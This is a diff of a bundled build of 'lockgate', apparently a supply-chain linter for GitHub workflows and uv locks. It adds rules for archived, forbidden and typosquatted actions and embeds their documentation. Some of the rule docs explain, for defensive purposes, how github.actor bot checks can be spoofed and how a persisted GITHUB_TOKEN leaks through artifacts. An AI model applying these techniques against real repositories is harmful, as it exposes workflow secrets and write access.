@@ -30976,7 +30976,7 @@ function logLine(text) {
 
 /***/ }),
 
-/***/ 7559:
+/***/ 7831:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -31117,6 +31117,9 @@ const ZIZMOR_EQUIVALENTS = {
     'unsound-contains': 'unsound-contains',
     'unsound-condition': 'unsound-condition',
     'insecure-commands': 'insecure-commands',
+    'archived-uses': 'archived-uses',
+    'forbidden-uses': 'forbidden-uses',
+    'typosquat-uses': 'typosquat-uses',
 };
 const SCOPE_OF_RULE = {
     'dangerous-trigger': 'on',
@@ -31141,6 +31144,10 @@ const SCOPE_OF_RULE = {
     obfuscation: 'node',
     'unsound-contains': 'node',
     'insecure-commands': 'node',
+    // The step holding the uses: (or the job, for a reusable-workflow call), as for unpinned-uses.
+    'archived-uses': 'step',
+    'forbidden-uses': 'step',
+    'typosquat-uses': 'step',
 };
 /** Rules whose related locations are where zizmor reports the same finding (so its comment sits there). */
 const REPORTED_AT_RELATED = new Set(['unpinned-image']);
@@ -33586,11 +33593,94 @@ async function gatherIndexFacts(pairs, settings, log, options = {}) {
 
 // EXTERNAL MODULE: ./src/settings/types.ts
 var types = __nccwpck_require__(1664);
+;// CONCATENATED MODULE: ./src/settings/uses-patterns.ts
+/**
+ * `uses:` patterns of the config (`workflows.forbidden-uses`), in zizmor's repository-pattern syntax,
+ * so a zizmor.yml policy carries over unchanged. From the most to the least specific:
+ *   owner/repo/sub/path@ref   exactly that action at exactly that ref (ref compared as written)
+ *   owner/repo@ref            the repository's root action or workflow... at that ref
+ *   owner/repo/sub/path       that action in the repository, at any ref
+ *   owner/repo                the repository's root action only (no subpath), at any ref
+ *   owner/repo/*              anything in the repository, root included
+ *   owner/*                   anything of the owner
+ *   *                         anything
+ * Owner and repository compare case-insensitively (GitHub's names do); subpath and ref exactly.
+ * Not globs on purpose: `*` stands only for a whole component, so `actions/*` cannot be mistaken for
+ * `actions*` (a prefix of other owners' names), and zizmor users keep their patterns.
+ */
+const OWNER = /^[A-Za-z0-9_-]+$/;
+const REPO = /^[A-Za-z0-9_.-]+$/;
+/** Printable, no space, no `@`, no `*` (zizmor's subpath class). */
+const SUBPATH = /^[!-)+-?A-~]+$/;
+/** Printable, no space, no `*`. */
+const REF = /^[!-)+-~]+$/;
+/** A pattern, or the reason it is not one (for the config's error message). */
+function parseUsesPattern(input) {
+    const text = input.trim();
+    if (text === '*')
+        return { kind: 'any', text };
+    if (text === '')
+        return { error: 'an empty pattern' };
+    if (text.length > 512)
+        return { error: 'longer than 512 characters' };
+    const at = text.indexOf('@');
+    const target = at < 0 ? text : text.slice(0, at);
+    const ref = at < 0 ? undefined : text.slice(at + 1);
+    const [owner = '', repo = '', ...rest] = target.split('/');
+    const path = rest.join('/');
+    if (!OWNER.test(owner))
+        return { error: `"${owner}" is not an owner name (letters, digits, - and _; no wildcard)` };
+    if (repo === '')
+        return { error: 'it names no repository: write owner/repo, owner/* or *' };
+    if (repo !== '*' && (!REPO.test(repo) || repo === '.' || repo === '..'))
+        return { error: `"${repo}" is not a repository name or *` };
+    if (rest.length > 0 && (path === '' || (path !== '*' && !SUBPATH.test(path))))
+        return { error: `"${path}" is not a subpath (no spaces, @ or *) or *` };
+    if (ref !== undefined && (ref === '' || !REF.test(ref)))
+        return { error: `"${ref}" is not a ref (no spaces or *)` };
+    if (repo === '*') {
+        if (rest.length > 0 || ref !== undefined)
+            return { error: 'owner/* takes no subpath or ref' };
+        return { kind: 'owner', text, owner };
+    }
+    if (ref !== undefined) {
+        if (path === '*')
+            return { error: 'owner/repo/* takes no ref' };
+        return { kind: 'ref', text, owner, repo, path, ref };
+    }
+    if (path === '*')
+        return { kind: 'repo-any-path', text, owner, repo };
+    if (path !== '')
+        return { kind: 'path', text, owner, repo, path };
+    return { kind: 'repo', text, owner, repo };
+}
+function matchesUsesPattern(pattern, target) {
+    if (pattern.kind === 'any')
+        return true;
+    if (pattern.owner.toLowerCase() !== target.owner.toLowerCase())
+        return false;
+    if (pattern.kind === 'owner')
+        return true;
+    if (pattern.repo.toLowerCase() !== target.repo.toLowerCase())
+        return false;
+    switch (pattern.kind) {
+        case 'repo-any-path':
+            return true;
+        case 'repo':
+            return target.path === '';
+        case 'path':
+            return target.path === pattern.path;
+        case 'ref':
+            return target.path === pattern.path && target.ref === pattern.ref;
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/settings/config.ts
 /**
  * `.github/lockgate.yml`: parsed and validated once. Every bad value is a SettingsError that names
  * the file, the line and the key, so a typo never silently disables a check.
  */
+
 
 
 
@@ -33757,8 +33847,31 @@ function parseConfig(file, text, knownRules) {
                 for (const [key, k, v] of mapEntries(value, 'workflows')) {
                     if (key === 'allow-ref-pin')
                         config.workflows.allowRefPin = stringList(v, 'workflows.allow-ref-pin');
+                    else if (key === 'forbidden-uses') {
+                        const forbidden = {};
+                        for (const [name, nameNode, list] of mapEntries(v, 'workflows.forbidden-uses')) {
+                            if (name !== 'allow' && name !== 'deny')
+                                fail(nameNode, `unknown key workflows.forbidden-uses.${name} (expected allow, deny)`);
+                            const where = `workflows.forbidden-uses.${name}`;
+                            if (!(0,dist/* isSeq */.oP)(list))
+                                fail(list ?? nameNode, `${where} must be a list of uses: patterns (owner/repo, owner/*, owner/repo@ref, *)`);
+                            const items = list.items;
+                            // An empty allow list forbids every action: almost certainly an unfinished edit, not a policy.
+                            if (name === 'allow' && items.length === 0)
+                                fail(list, `${where} is empty, which would forbid every action; to forbid all, write deny: ['*']`);
+                            forbidden[name] = items.map((item, i) => {
+                                const parsed = parseUsesPattern(scalarString(item, `${where}[${i}]`));
+                                if ('error' in parsed)
+                                    fail(item, `${where}[${i}] is not a uses: pattern: ${parsed.error}`);
+                                return parsed;
+                            });
+                        }
+                        if (!forbidden.allow && !forbidden.deny)
+                            fail(v ?? k, 'workflows.forbidden-uses needs allow or deny (or both), each a list of uses: patterns');
+                        config.workflows.forbiddenUses = forbidden;
+                    }
                     else
-                        fail(k, `unknown key workflows.${key} (expected allow-ref-pin)`);
+                        fail(k, `unknown key workflows.${key} (expected allow-ref-pin, forbidden-uses)`);
                 }
                 break;
             case 'typosquat':
@@ -34801,6 +34914,7 @@ function ruleName(id) {
 // Generated by scripts/gen-docs.mjs from docs/rules/*.md. Do not edit.
 const RULE_DOCS = {
     "add-bounds-not-exact": "# add-bounds-not-exact\n\nDefault severity: **notice**.\n\n`uv add` is not configured to write exact `==` pins.\n\n## What it reports\n\nA uv project whose settings (root `uv.toml`, else root `[tool.uv]`) do not set\n`add-bounds = \"exact\"`: unset (uv writes `>=x`), `\"lower\"`, `\"major\"` or `\"minor\"`.\n\n## Why\n\nThe lock pins every version, but the dependency list decides where `uv lock --upgrade` and\nupdate bots may go. With `>=` bounds a dependency can move to any later release in a change that\ntouches only `uv.lock`. With `==`, every upgrade also changes `pyproject.toml`, where reviewers\nlook. uv itself calls `exact` \"not recommended\" because the lock already pins; this is a notice,\nfor teams that want upgrades to be explicit.\n\n## How to fix\n\n```toml\n[tool.uv]\nadd-bounds = \"exact\"\n```\n\n(`add-bounds` is stable since uv 0.10.0.) Existing requirements are not rewritten; see\n`unpinned-requirement` for those.\n\n## How to ignore\n\nSwitch the rule off in the config (`rules: { add-bounds-not-exact: off }`), or a config `ignore:`\nentry with a reason and `until`, or `# lockgate: ignore[add-bounds-not-exact]` on the\n`[tool.uv]` line or the line above.\n\n## Example\n\n```\npyproject.toml:12 notice add-bounds-not-exact: add-bounds is not set, so `uv add` writes `>=`\nlower bounds: a direct dependency then moves to whatever `uv lock --upgrade` picks.\n```\n",
+    "archived-uses": "# archived-uses\n\nDefault severity: **warning**.\n\nAn action or reusable workflow comes from an archived repository, which gets no more fixes.\n\nzizmor id: `archived-uses` (its ignore comment `# zizmor: ignore[archived-uses]` is honoured).\n\n## What it reports\n\nEvery `uses:` of a step (workflows and composite actions) or of a reusable-workflow job whose\n`owner/repo` is on the list of archived repositories lockgate ships: zizmor's\n`data/archived-repos.txt` (MIT, copied with its commit into `data/zizmor/`), 151 names, compared\ncase-insensitively. The check is offline. Confidence high, persona regular (zizmor: Medium / High).\nWhere the replacement is well known (`actions/create-release` → `softprops/action-gh-release` or\n`gh release create`), the fix names it (`data/archived-action-replacements.tsv`).\n\n## Why\n\nAn archived repository is read-only: its owner ships no fixes, security fixes included, and its\nown dependencies stay as old as they are. A vulnerability found in it later is never fixed there.\n\n## How to fix\n\nReplace it with the maintained action the fix names, or the commands it wrapped in a `run:` step.\n\n## How to ignore\n\n```yaml\n      # lockgate: ignore[archived-uses] vendored copy reviewed, replacement planned\n      - uses: actions/create-release@0cb9c9b65d5d1901c1f53e5e66eaf4afd303e70e # v1.1.4\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: archived-uses\n    path: .github/workflows/release.yml\n    until: 2027-03-01\n    reason: migrating to gh release in Q1\n```\n\n## Example\n\n```yaml\n    steps:\n      - uses: actions/create-release@v1\n```\n\n```\nwarning[archived-uses] .github/workflows/release.yml:8:15\n  The action actions/create-release comes from actions/create-release, an archived repository: ...\n  fix: Replace it with softprops/action-gh-release, or `gh release create` in a run: step ...\n```\n",
     "artipacked": "# artipacked\n\nDefault severity: **warning**; **error** when a later step uploads the workspace.\n\nactions/checkout persists the token in .git/config.\n\nzizmor id: `artipacked` (its ignore comment is honoured).\n\n## What it reports\n\nEvery `actions/checkout` step (any ref, in workflows and composite actions) without a\n`persist-credentials` input. The finding points at the `uses:` value. When a later step of the same\njob uploads the whole workspace with `actions/upload-artifact` (`path: .`, `./`, `..` or\n`${{ github.workspace }}`, with or without a trailing `/`, also as one line of a multi-line\n`path: |`), the message says so and the finding is an **error**: the token then ships inside the\nartifact, readable by anyone who can download it (zizmor's High case). From `actions/checkout` v6\non (the ref `@v6…`, or a SHA pin with a `# v6…` comment) the credential is kept in a file under\n`$RUNNER_TEMP` instead of the checkout, so a workspace upload does not carry it and the finding\nstays a warning (zizmor lowers v6 findings too). A checkout whose version cannot be read (a branch,\na bare SHA) is treated as older than v6.\n\nNot reported: `persist-credentials: false` (or `\"false\"`), an explicit `persist-credentials: true`\n(a deliberate choice for a job that pushes), and an expression (cannot be judged statically). This\nmatches zizmor's `artipacked` in its default persona.\n\nConfidence and persona ([confidence and personas](../confidence.md)), as zizmor's artipacked: with\na later workspace upload the finding is **high** confidence, without one **low** (the token is\nexposed only if something later reads `.git/config`). A checkout that says\n`persist-credentials: true` is a deliberate choice (a job that pushes): it is reported only to the\n**auditor** persona; `persist-credentials: ${{ … }}` cannot be judged statically and is reported\nto the **pedantic** persona. `persist-credentials: false` is never reported.\n\n## Why\n\nBy default `actions/checkout` writes the job's `GITHUB_TOKEN` into `.git/config` so later `git`\ncommands can push. Every later step, every action and every tool the job runs can read that file,\nand anything that archives or uploads the checkout (an artifact, a cache, a built sdist that\nincludes `.git`) carries the token out of the job. Most jobs never push.\n\n## How to fix\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n        with:\n          persist-credentials: false\n```\n\nA job that must push can pass the token to that one command instead\n(`git push https://x-access-token:${GITHUB_TOKEN}@github.com/…`), or set\n`persist-credentials: true` explicitly, which lockgate accepts as a decision.\n\n## How to ignore\n\nOn the `uses:` line or the line above it:\n\n```yaml\n      # lockgate: ignore[artipacked] this job pushes the changelog commit\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: artipacked\n    path: .github/workflows/bump.yml\n    until: 2027-01-31\n    reason: pushes the version bump commit\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n      - run: make\n```\n\n```\nwarning[artipacked] .github/workflows/ci.yml:8:15\n  This checkout in job build leaves the job's GITHUB_TOKEN in .git/config for every later step\n  (persist-credentials defaults to true); any later step, action or uploaded artifact can read it.\n  fix: Add to this step:\n  with:\n    persist-credentials: false\n```\n",
     "bot-condition": "# bot-condition\n\nDefault severity: **error** when the bot check alone decides the condition; **warning** (medium\nconfidence) when it is one term of an `&&`.\n\nA `pull_request_target` job or step trusts `github.actor` to be a bot, which an attacker can arrange.\n\nzizmor id: `bot-conditions` (its ignore comment `# zizmor: ignore[bot-conditions]` is honoured).\n\n## What it reports\n\nIn a workflow triggered by `pull_request_target`, a job's or a step's `if:` that grants on an actor\ncheck against a bot:\n\n- `github.actor`, `github.triggering_actor` or `github.event.pull_request.sender.login` compared\n  with `==` to a name ending in `[bot]` (`'dependabot[bot]'`, `'renovate[bot]'`, in any case, either\n  side of the `==`);\n- `github.actor_id` or `github.event.pull_request.sender.id` compared to a known bot id\n  (dependabot[bot] 49699333 and its integration id 29110, dependabot-preview[bot] 27856297,\n  renovate[bot] 29139614).\n\nThe condition is read as GitHub reads it, bare or in one `${{ }}`. A check that decides the whole\ncondition (`bot`, `bot || x`, `!(x && !bot)`) is an error with high confidence; a check that is one\nterm of an `&&` (`x && bot`) is a warning with medium confidence, as zizmor grades them. A check that\ndenies the bot (`github.actor != 'dependabot[bot]'`, `!(github.actor == 'dependabot[bot]')`) is not\nreported: spoofing it only stops the job. Workflows on other triggers are not reported (zizmor's\nscope: there the job has no secrets and a read-only token when a fork triggers it).\n\n## Why\n\n`github.actor` is the account that caused the latest event of the run, not the author of the pull\nrequest. An attacker who opens a pull request and then gets Dependabot or Renovate to act on it (for\nexample by asking it to rebase or recreate, or by triggering an update of a branch it manages) makes\nthe next `pull_request_target` run have `github.actor == 'dependabot[bot]'`. An \"auto-merge\nDependabot PRs\" job guarded this way then approves, merges or runs the attacker's code with the\nworkflow's write token and secrets.\n\n## How to fix\n\nCheck the pull request's author, which nobody else can take over:\n\n```yaml\n    if: github.event.pull_request.user.login == 'dependabot[bot]'\n```\n\nBetter still, run Dependabot automation on `pull_request` (Dependabot's pull requests get its own\nsecrets there, a fork gets none), and keep `pull_request_target` jobs from acting on the pull\nrequest's code.\n\n## How to ignore\n\n`# lockgate: ignore[bot-condition]` on the `if:` line or on the line above it, or a config entry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: bot-condition\n    path: .github/workflows/automerge.yml\n    until: 2027-01-31\n    reason: the job only labels, with a read-only token\n```\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  automerge:\n    runs-on: ubuntu-latest\n    if: github.actor == 'dependabot[bot]'\n    steps:\n      - run: gh pr merge --auto --squash \"$PR_URL\"\n```\n\n```\nerror[bot-condition] .github/workflows/automerge.yml:5:9\n  The if: of job automerge trusts github.actor == 'dependabot[bot]' in a pull_request_target workflow;\n  github.actor names whoever caused the latest event, not who opened the pull request, so an attacker\n  who gets the bot to act on their pull request (a rebase or recreate, for instance) passes the check\n  and runs with this workflow's write token and secrets.\n  fix: Check who opened the pull request instead: github.event.pull_request.user.login ==\n  'dependabot[bot]' (and, for Dependabot, run its automation on pull_request, where a fork gets no\n  secrets).\n```\n",
     "cooldown-unverified": "# cooldown-unverified\n\nDefault severity: **warning**.\n\nThe upload time of a newly locked version could not be established.\n\n## What it reports\n\nAn entry this change brings into `uv.lock` whose age lockgate cannot check against the cooldown:\n\n- a registry package whose lock has no `upload-time` (locks written before uv 0.6.15, or from an\n  index without PEP 700 upload times, such as HTML-only private mirrors), when the index could not\n  date it either: lockgate ran offline (no request is made at all), the index did not answer\n  within the time budget, no longer lists the files, or lists them without upload times;\n- a registry package some of whose new files are dated and some are not (neither the lock nor\n  the index has a time for them), unless the dated files already make it too young (then the\n  `cooldown` error says so): files can be added to a release long after it was published, so an\n  old sdist says nothing about a wheel uploaded yesterday under the same version. The finding names\n  the undated files;\n- a package from a direct URL or from git: neither has an upload time, and uv's `exclude-newer`\n  does not apply to them.\n\nPath, directory and editable sources are the repository's own code and are not reported. With a\ncooldown of 0 days, nothing is reported. Exempt packages are shown as waived.\n\nA registry package from an index that only the pull request names (one that base neither used nor\ndeclared, and that is not PyPI or the `index-url` input) is not looked up either: the lock is the\npull request's own text, and following its URLs would let it point the runner at any host, an\ninternal one on a self-hosted runner. Such entries are reported here, and the index itself by\n`new-index`. Set `index-url` to that index to have it asked.\n\n## Why\n\nAn entry whose age is unknown may be a release published minutes ago. A warning keeps that\nvisible instead of passing it silently.\n\n## How to fix\n\n- Run lockgate online (without `--offline` / `offline: true`), so it asks the index.\n- Re-lock with uv 0.6.15 or later from an index that serves upload times, so the lock records them:\n  `uv lock --refresh`.\n- For git and URL sources, review the commit or archive, pin it (a `rev` for git, a hash for URLs),\n  and record the review as an exemption:\n\n```yaml\n# .github/lockgate.yml\ncooldown:\n  exempt:\n    - package: internal-tool\n      until: 2027-01-31\n      reason: our own repository, reviewed on merge\n```\n\n## How to ignore\n\nA `cooldown.exempt` entry (above), a config `ignore:` entry with a reason and `until`, or\n`# lockgate: ignore[cooldown-unverified]` on the line above the package in `uv.lock`.\n\n## Example\n\n```\nuv.lock:24 warning cooldown-unverified: httpx 0.28.1 has no upload time in the lock (written by uv\nbefore 0.6.15, or from an index without PEP 700 upload times), and lockgate ran offline, so its age\nagainst the cooldown of 7 days is unknown.\n\nuv.lock:5 warning cooldown-unverified: anyio 4.10.0 locks\nanyio-4.10.0-cp312-cp312-manylinux_2_17_x86_64.whl with no upload time, though its other new files\nhave one (uploaded 2026-05-01 10:00 UTC), and lockgate ran offline, so the age of that file against\nthe cooldown of 7 days is unknown. Files can be added to a release long after it was published, so\nthe dates of the others say nothing about this one.\n```\n",
@@ -34811,6 +34925,7 @@ const RULE_DOCS = {
     "downgrade": "# downgrade\n\nDefault severity: **notice**.\n\nA locked package moved to a lower version.\n\n## What it reports\n\nA package locked from the same source at base and head whose head version is lower by PEP 440\nordering (`2.2.2` to `2.2.1`, `1.0` to `1.0rc1`). The finding points at the head entry's\n`[[package]]` line in `uv.lock`. Forked resolutions (one name at several versions) are matched\nversion by version from the highest down, so adding or dropping a fork is not a downgrade, and\n`1.0` to `1.0.0` is no change at all. A move to another source is reported by `source-changed`\ninstead.\n\n## Why\n\nA downgrade can bring back bugs and vulnerabilities fixed in between, and it is easy to miss in a\nlarge lock diff: a tighter specifier, a new constraint or an override in another package can pull a\ndependency down without anyone asking for it.\n\n## How to fix\n\nIf it is intended (a regression in the newer release), nothing. Otherwise undo the change that\nlowered it (a tighter specifier, a `constraint-dependencies` or `override-dependencies` entry) and\nre-lock:\n\n```sh\nuv lock --upgrade-package urllib3\n```\n\n## How to ignore\n\nA config entry, limited to the package, with a reason and an expiry (a comment in `uv.lock` does\nnot survive the next `uv lock`):\n\n```yaml\nignore:\n  - rule: downgrade\n    package: coverage\n    reason: 7.13.1 breaks our branch coverage; pinned to <=7.13 until 7.13.2\n    until: 2026-06-30\n```\n\nOr `# lockgate: ignore[downgrade]` on the `[[package]]` line or the line above.\n\n## Example\n\n```\nuv.lock:63 notice downgrade: urllib3 goes down from 2.2.2 to 2.2.1. A downgrade can bring back bugs\nand vulnerabilities fixed in between; make sure it is intended.\n```\n",
     "excessive-permissions": "# excessive-permissions\n\nDefault severity: **warning**.\n\nA workflow or job runs with broad or default token permissions.\n\nzizmor id: `excessive-permissions` (its ignore comment is honoured).\n\n## What it reports\n\nIn workflows (`.github/workflows/*.yml`):\n\n1. **Default permissions**: a job with no `permissions:` in a workflow with no top-level\n   `permissions:`. The finding points at the job's key. Reusable-workflow call jobs count too.\n   Workflows triggered only by `workflow_call` are skipped: their token is bounded by the caller's.\n   A job that calls a reusable workflow of this repository (`uses: ./.github/workflows/x.yml`) is\n   skipped when every job of that workflow declares its token (the callee's workflow-level or its\n   own `permissions:`): a called workflow can only lower the token it is passed, so the default\n   never reaches a step.\n2. **`write-all`**: `permissions: write-all` at workflow level (pointing at the `permissions:` key),\n   when at least one job inherits it (has no `permissions:` of its own; the message lists them), or\n   on a job.\n3. **Write scopes at workflow level**: each `<scope>: write` in the top-level `permissions:`, when\n   the workflow has more than one job and at least one job inherits it (has no `permissions:` of its\n   own). The finding points at the scope's line and lists the jobs that inherit it.\n4. **`read-all`**, as a **notice**: on a job, or at workflow level when the workflow has more than\n   one job and at least one inherits it. It cannot write, but reads every scope (security alerts,\n   packages, workflow logs) where a job usually needs `contents: read`.\n\nThe token is read as GitHub computes it: a job's own `permissions:` replaces the workflow's entirely,\nand `permissions: {}` (or `permissions:` with no value) is no access at all.\n\nNot reported: `permissions: {}`, write scopes on a job (that is where they\nbelong), workflow-level write scopes in a one-job workflow or where every job sets its own\npermissions (they are then the job's scopes, or unused), workflow-level `write-all` when every job\nsets its own permissions (a job's block replaces the workflow's entirely, so no job gets it), and\nvalues lockgate cannot read (an expression).\n\nThese follow zizmor's `excessive-permissions` in its default (regular) persona, with one level:\nzizmor grades scopes (High for contents, actions, packages, id-token, pull-requests…, Medium for\nchecks, statuses…); lockgate reports every workflow-level write scope that several jobs inherit,\nbecause the fix is the same for all: move it to the job that needs it. zizmor reports `read-all`\nas Medium; lockgate reports it as a notice, since it grants no write access.\n\nConfidence and persona ([confidence and personas](../confidence.md)), as zizmor's\nexcessive-permissions: a job on the repository's default token is **medium** confidence (a\nrepository setting decides whether that token can write). The **pedantic** persona also sees a\nworkflow-level block that reaches one job or none (write scopes, `write-all`, `read-all`: a\njob-level block in all but name, until a job without its own block is added) and the jobs of a\n`workflow_call`-only workflow without a block (their caller bounds the token), except jobs that\ncall a reusable workflow.\n\n## Why\n\nWithout `permissions:`, the `GITHUB_TOKEN` gets the repository's or organisation's default, which\nfor older repositories and many organisations is read-write on every scope (contents, packages,\nactions, pull requests…). Any step, any third-party action, and any dependency that runs in that job\ncan then push commits, move tags, publish packages or rewrite workflows. A write scope at workflow\nlevel hands the same power to every job, including the test jobs that run pull request code.\n\n## How to fix\n\nAdd a read-only default at the top of the workflow, after `on:`:\n\n```yaml\npermissions:\n  contents: read\n```\n\nand give the job that writes its own block, for example:\n\n```yaml\njobs:\n  release:\n    permissions:\n      contents: write\n      id-token: write\n```\n\nFor `read-all`, replace it with the scopes the job reads (`contents: read` in most cases).\n\n## How to ignore\n\nOn the flagged line (the job key, or the `permissions:` / scope line) or the line above it:\n\n```yaml\njobs:\n  # lockgate: ignore[excessive-permissions] org default is read-only\n  build:\n```\n\nzizmor's `# zizmor: ignore[excessive-permissions]` is honoured too, on any line of the entry the\nfinding points at (the job, the `permissions:` block or the scope); see\n[docs/ignoring.md](../ignoring.md).\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: excessive-permissions\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: org default token is read-only; adding blocks in Q1\n```\n\n## Example\n\n```yaml\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n```\n\n```\nwarning[excessive-permissions] .github/workflows/ci.yml:3:3\n  Job test has no permissions: block and neither has the workflow, so it runs with the repository's\n  default GITHUB_TOKEN permissions, which can be read-write on every scope; …\n  fix: Add at the top of the workflow (after on:):\n  permissions:\n    contents: read\n```\n",
     "exclude-newer-missing": "# exclude-newer-missing\n\nDefault severity: **warning**.\n\nThe uv project sets no exclude-newer cooldown.\n\n## What it reports\n\nA uv project whose settings (the root `uv.toml` when it exists, else the root `pyproject.toml`'s\n`[tool.uv]`) have no `exclude-newer`, set it to `false`, or set a value uv rejects (`\"1 month\"`:\nuv refuses months and years). An absolute date or timestamp counts as set. When a `uv.toml`\nexists, an `exclude-newer` in `[tool.uv]` has no effect (uv reads only `uv.toml`), and the message\nsays so. Settings in workspace members have no effect either. The finding points at the key, or\nat the `[tool.uv]` header (the `[project]` line when there is none) when it is missing.\n\n## Why\n\n`exclude-newer` makes uv ignore files uploaded in the last N days when it resolves. Most\nmalicious releases are found and removed within days, so a cooldown keeps them out of the lock\nwithout anyone having to notice them. Relative values need uv 0.9.17 or later.\n\n## How to fix\n\n```toml\n[tool.uv]\nexclude-newer = \"7 days\"\nrequired-version = \">=0.9.17\"\n```\n\n(In `uv.toml`, the same keys without the `[tool.uv]` header.) Then run `uv lock`. A package that\nmust move faster gets its own value: `exclude-newer-package = { certifi = \"1 day\" }`.\n\n## How to ignore\n\nA config entry with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: exclude-newer-missing\n    path: tools/pyproject.toml\n    reason: throwaway scripts, never deployed\n    until: 2027-01-01\n```\n\nOr `# lockgate: ignore[exclude-newer-missing]` on the `[tool.uv]` line or the line above.\n\n## Example\n\n```\npyproject.toml:9 warning exclude-newer-missing: pyproject.toml sets no exclude-newer, so uv locks\nreleases published minutes ago. Most malicious releases are found and removed within days; a\ncooldown keeps them out of the lock until then.\n```\n",
+    "forbidden-uses": "# forbidden-uses\n\nDefault severity: **error**.\n\nAn action or reusable workflow is forbidden by the `workflows.forbidden-uses` policy of `.github/lockgate.yml`.\n\nzizmor id: `forbidden-uses` (its ignore comment `# zizmor: ignore[forbidden-uses]` is honoured).\n\n## What it reports\n\nNothing unless the config sets `workflows.forbidden-uses`. Then every repository `uses:` (steps of\nworkflows and composite actions, reusable-workflow jobs) that matches a `deny` pattern, or, when\n`allow` is given, matches none of its patterns. Local actions (`./…`) and `docker://` images are not\nchecked. Confidence high, persona regular (zizmor: High / High). An error: the policy is the\nrepository's own.\n\nPatterns are zizmor's, so a `zizmor.yml` policy carries over: `owner/repo/sub/path@ref`,\n`owner/repo@ref`, `owner/repo/sub/path`, `owner/repo` (the root action only), `owner/repo/*`\n(anything in the repository), `owner/*`, `*`. Owner and repository compare case-insensitively,\nsubpath and ref exactly. They are not path globs (src/core/glob.ts): `*` stands only for a whole\ncomponent, so `actions/*` can never match another owner such as `actions-rs`. Unlike zizmor, allow\nand deny may be given together; deny wins. A bad pattern, an unknown key or an empty `allow` list\nstops the run with the file and line.\n\n## Why\n\nA repository that decided which actions it trusts needs the decision enforced on every change. The\nconfig is read from the base revision, so a pull request cannot allow its own new action.\n\n## How to fix\n\nUse an allowed action, or after review add it to `allow`:\n\n```yaml\n# .github/lockgate.yml\nworkflows:\n  forbidden-uses:\n    allow: [actions/*, astral-sh/setup-uv, pypa/gh-action-pypi-publish]\n    deny: [actions/create-release]\n```\n\n## How to ignore\n\n```yaml\n      # lockgate: ignore[forbidden-uses] one-off migration job, removed after the release\n      - uses: other/tool@v1\n```\n\n## Example\n\n```\nerror[forbidden-uses] .github/workflows/ci.yml:9:15\n  The action tj-actions/changed-files@v45 is forbidden by this repository's policy: it matches the\n  deny pattern tj-actions/* of workflows.forbidden-uses in .github/lockgate.yml.\n```\n",
     "ghost-file": "# ghost-file\n\nDefault severity: **error**. Online only.\n\nA locked file is no longer listed by its index.\n\n## What it reports\n\nFor each entry this change brings into `uv.lock`, what the package index no longer has:\n\n- the project (404: removed, renamed, or quarantined);\n- the locked version (absent from the index's version list);\n- locked files (by filename), or a file listed with another sha256 than the lock pins.\n\nThe index is asked with the PEP 691 JSON API (PEP 700 `versions`), PyPI's JSON API, or a PEP 503\nHTML page (files only: such pages have no version list).\n\n## Why\n\nDeleting a project or file on PyPI removes its database rows, not the stored files, so the URLs\nin a lock keep downloading, and uv installs from the lock without asking the index: the \"ghost\"\nstays installable. Removals are often malware takedowns, and a file whose hash differs from what\nthe index serves is not the file the index publishes.\n\n## How to fix\n\nFind out why it was removed before installing it again. Then re-resolve or drop it:\n\n```sh\nuv lock --upgrade-package httpx\nuv remove httpx\n```\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[ghost-file]` on the line above the package or file in `uv.lock`.\n\n## Example\n\n```\nuv.lock:33 error ghost-file: httpx 0.28.1 on https://pypi.org/simple: 1 of its 2 locked files are\nno longer listed (httpx-0.28.1.tar.gz). Files deleted from an index usually stay downloadable from\nits file host, so uv keeps installing what the lock names; a removal is often a malware takedown.\n```\n",
     "hash-changed": "# hash-changed\n\nDefault severity: **error**.\n\nThe same version from the same source is locked with different artifacts or hashes.\n\n## What it reports\n\nA package whose name, version and source are the same at base and head, but where a file locked\nat both sides (same filename: the sdist or a wheel) has a different digest of the same algorithm.\nThe finding points at that file's line in `uv.lock` and names the file and both digests.\n\nNot reported: new files for the same release (a wheel for a new platform uploaded later), files\nthat are no longer locked, a digest that moves to another algorithm (it cannot be compared byte\nfor byte), and whitespace, ordering or key-order changes of the lock.\n\n## Why\n\nA published file never changes: PyPI refuses to reuse a filename, and a direct URL or path source\nis locked by its hash precisely so that its bytes cannot change unnoticed. A new digest for the\nsame file means the lock was edited by hand, the file at a URL was replaced, or an index served\ndifferent bytes. Each of these is how a tampered package gets installed under a trusted version.\n\n## How to fix\n\nDo not merge until you know why. Restore the previous entry and re-lock:\n\n```sh\ngit checkout <base> -- uv.lock\nuv lock\n```\n\nIf `uv lock` writes the new digest again, the index (or the URL) now serves different bytes: ask\nits owner, and compare with the file you had before.\n\n## How to ignore\n\nA config entry, limited to the package, with a reason and an expiry (a comment in `uv.lock` does\nnot survive the next `uv lock`):\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: hash-changed\n    package: internal-tool\n    reason: our private index rebuilt 1.4.0 after the signing-key rotation (ticket SEC-142)\n    until: 2026-10-01\n```\n\nOr `# lockgate: ignore[hash-changed]` on the file's line or the line above.\n\n## Example\n\n```\nuv.lock:21 error hash-changed: charset-normalizer 3.3.2 from registry https://pypi.org/simple is\nlocked with other bytes for charset_normalizer-3.3.2-py3-none-any.whl: sha256:a1f0c79cbf8d3e64…\nbecame sha256:d121be3103007b41…. A published file never changes, …\n```\n",
